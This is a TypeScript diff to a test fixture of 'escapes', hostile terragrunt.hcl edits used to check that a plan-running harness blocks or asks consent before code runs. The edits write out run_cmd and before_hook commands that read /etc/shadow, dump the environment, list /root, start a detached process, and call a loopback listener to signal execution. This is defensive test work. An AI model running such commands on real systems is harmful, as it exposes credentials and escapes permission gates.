@@ -2,6 +2,7 @@ import type { Edit } from './infra.ts';
 
 /** A way out of a plan, as somebody would propose it: what is edited, and what must be said of it. */
 export interface Escape {
+  // In the edits, HOST_PORT stands for the port of a listener on the host's loopback, which must not hear anything.
   readonly name: string;
   readonly edits: Readonly<Record<string, Edit>>;
   /** `deny` whatever anybody consents to; `needs-consent` before anything of it runs. */
@@ -88,7 +89,9 @@ export const escapes: readonly Escape[] = [
   {
     name: 'a command while Terragrunt parses',
     edits: {
-      [`${stack}/terragrunt.hcl`]: appended('locals {\n  x = run_cmd("sh", "-c", "cat /etc/shadow; env; ls /root")\n}'),
+      [`${stack}/terragrunt.hcl`]: appended(
+        'locals {\n  x = run_cmd("sh", "-c", "cat /etc/shadow; env; ls /root; curl -s -m 2 http://127.0.0.1:HOST_PORT/parsed; true")\n}',
+      ),
     },
     stopped: 'needs-consent',
     rule: /edit-.*(hcl|terragrunt)/,
@@ -97,7 +100,7 @@ export const escapes: readonly Escape[] = [
     name: 'a hook before the plan',
     edits: {
       [`${stack}/terragrunt.hcl`]: appended(
-        'terraform {\n  before_hook "x" {\n    commands = ["plan"]\n    execute  = ["sh", "-c", "setsid sleep 600 & env"]\n  }\n}',
+        'terraform {\n  before_hook "x" {\n    commands = ["plan"]\n    execute  = ["sh", "-c", "setsid sleep 600 >/dev/null 2>&1 & env; curl -s -m 2 http://127.0.0.1:HOST_PORT/hooked; true"]\n  }\n}',
       ),
     },
     stopped: 'needs-consent',
@@ -240,3 +243,14 @@ export const escapes: readonly Escape[] = [
     rule: /scan-/,
   },
 ];
+
+/** The edits, with the port of the listener they try to reach. */
+export function aimedAt(port: number, edits: Escape['edits']): Escape['edits'] {
+  const aimed = (text: string): string => text.replaceAll('HOST_PORT', String(port));
+  return Object.fromEntries(
+    Object.entries(edits).map(([path, edit]) => {
+      if (typeof edit === 'string') return [path, aimed(edit)];
+      return [path, typeof edit === 'function' ? (before: string) => aimed(edit(before)) : edit];
+    }),
+  );
+}
